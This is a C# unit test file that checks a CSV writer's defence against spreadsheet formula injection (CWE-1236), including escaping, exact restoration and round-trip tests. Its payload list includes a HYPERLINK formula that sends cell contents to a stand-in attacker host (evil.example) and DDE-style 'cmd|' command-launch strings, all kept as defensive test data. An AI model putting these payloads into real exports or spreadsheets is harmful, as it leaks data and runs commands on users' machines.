using Pluralist.Core.Text;

namespace Pluralist.Core.Tests.Text;

/// <summary>Formula injection (CWE-1236): text that a spreadsheet would run is written inert, numbers stay numbers, and reading undoes it exactly.</summary>
public class CsvFormulaTests
{
    public static TheoryData<string, string> Payloads => new()
    {
        { "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" },
        { "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0" },
        { "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0" },
        { "@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0" },
        { "\t=1+1", "'\t=1+1" },
        { "\r=1+1", "'\r=1+1" },
        { "-", "'-" },
        { "-1+1", "'-1+1" },
        { "'=already quoted", "''=already quoted" },
        { "''+two", "'''+two" },
    };

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Text_that_would_run_as_a_formula_gets_a_leading_apostrophe(string text, string written)
    {
        Assert.Equal(written, CsvWriter.Neutralise(text));
        Assert.Equal(text, CsvWriter.Restore(written));
    }

    [Theory]
    [InlineData("-0.5")]
    [InlineData("-1")]
    [InlineData("-1E-05")]
    [InlineData("-2.5e+300")]
    [InlineData("0.25")]
    [InlineData("plain words")]
    [InlineData("a=b")]
    [InlineData("'tis")]
    [InlineData("'")]
    [InlineData("")]
    public void Numbers_and_harmless_text_are_written_as_they_are(string value)
    {
        Assert.Equal(value, CsvWriter.Neutralise(value));
        Assert.Equal(value, CsvWriter.Restore(value));
    }

    [Fact]
    public void Every_double_the_writer_formats_stays_a_number()
    {
        var random = new Random(7);
        for (var i = 0; i < 10_000; i++)
        {
            var d = (random.NextDouble() - 0.5) * Math.Pow(10, random.Next(-320, 300));
            var text = CsvWriter.Format(d);
            Assert.Equal(text, CsvWriter.Escape(text));
        }

        Assert.Equal("-0.5", CsvWriter.Escape(CsvWriter.Format(-0.5)));
    }

    [Fact]
    public void A_table_written_and_read_back_gives_the_same_text_and_numbers()
    {
        string[] texts = ["=1+1", "+x", "-y", "@z", "\tt", "\rr", "'=q", "''-w", "'plain", "-0.5", "ok, \"quoted\"\nnext", " padded "];
        var sw = new StringWriter();
        var writer = new CsvWriter(sw);
        writer.WriteRow("text", "score");
        foreach (var t in texts)
        {
            writer.WriteRow(t, CsvWriter.Format(-0.25));
        }

        var csv = sw.ToString();
        Assert.DoesNotContain("\n=", csv, StringComparison.Ordinal);
        Assert.DoesNotContain("\n+", csv, StringComparison.Ordinal);
        Assert.DoesNotContain("\n@", csv, StringComparison.Ordinal);
        var errors = new List<CsvError>();
        var table = CsvTable.Parse(new StringReader(csv), "t.csv", errors);
        Assert.Equal(texts, table.Rows.Select(r => table.Raw(r, "text")));
        Assert.All(table.Rows, r => Assert.Equal(-0.25, table.Double(r, "score")));
        Assert.Empty(errors);

        // Writing what was read gives the same bytes.
        var again = new StringWriter();
        var rewriter = new CsvWriter(again);
        rewriter.WriteRow("text", "score");
        foreach (var r in table.Rows)
        {
            rewriter.WriteRow(table.Raw(r, "text"), table.Raw(r, "score"));
        }

        Assert.Equal(csv, again.ToString());
    }
}
